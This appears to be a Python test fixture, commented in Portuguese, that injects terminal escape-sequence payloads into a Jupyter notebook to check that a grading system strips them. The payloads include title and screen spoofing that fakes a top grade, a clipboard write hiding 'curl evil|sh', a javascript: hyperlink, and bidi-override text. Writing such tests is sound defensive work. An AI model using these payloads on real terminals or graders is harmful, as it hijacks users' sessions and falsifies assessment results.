# Tenta: mandar no terminal de quem lê (mudar o título, apagar a tela, escrever na área de transferência, abrir ligações) e inverter o texto.
# Visto: do que se guarda e se mostra saem os escapes e os caracteres de controle.
import nbformat

ESC = "\x1b"
FORMAS = (
    f"{ESC}]0;nota 10{ESC}\\",
    f"{ESC}[2J{ESC}[H nota: 10,0 de 10,0",
    f"{ESC}]52;c;Y3VybCBldmlsfHNo\x07",
    f"{ESC}]8;;javascript:window.atacado=1\x07clique{ESC}]8;;\x07",
    f"{ESC}P$q q{ESC}\\{ESC}[6n{ESC}[c",
    "\x9b2J\x9d0;nota 10\x9c",
    "\rnota: 10,0 de 10,0\x08\x08\x08\x7f",
    "\u202e01 :aton\u202c \u2066x\u2069 \u200b\ufeff",
)


def monta(caderno):
    texto = "\n\n".join(FORMAS)
    for celula in caderno.cells:
        if celula.cell_type == "markdown" and celula.metadata.get("nbgrader", {}).get("solution"):
            celula.source += "\n\n" + texto
    codigo = f"import sys\nfor forma in {FORMAS!r}:\n    print(forma)\n    print(forma, file=sys.stderr)\nraise type({FORMAS[0]!r}, (Exception,), {{}})({texto!r})"
    caderno.cells += [nbformat.v4.new_markdown_cell(texto), nbformat.v4.new_code_cell(codigo), nbformat.v4.new_code_cell("# " + repr(texto))]
    return nbformat.writes(caderno).encode()
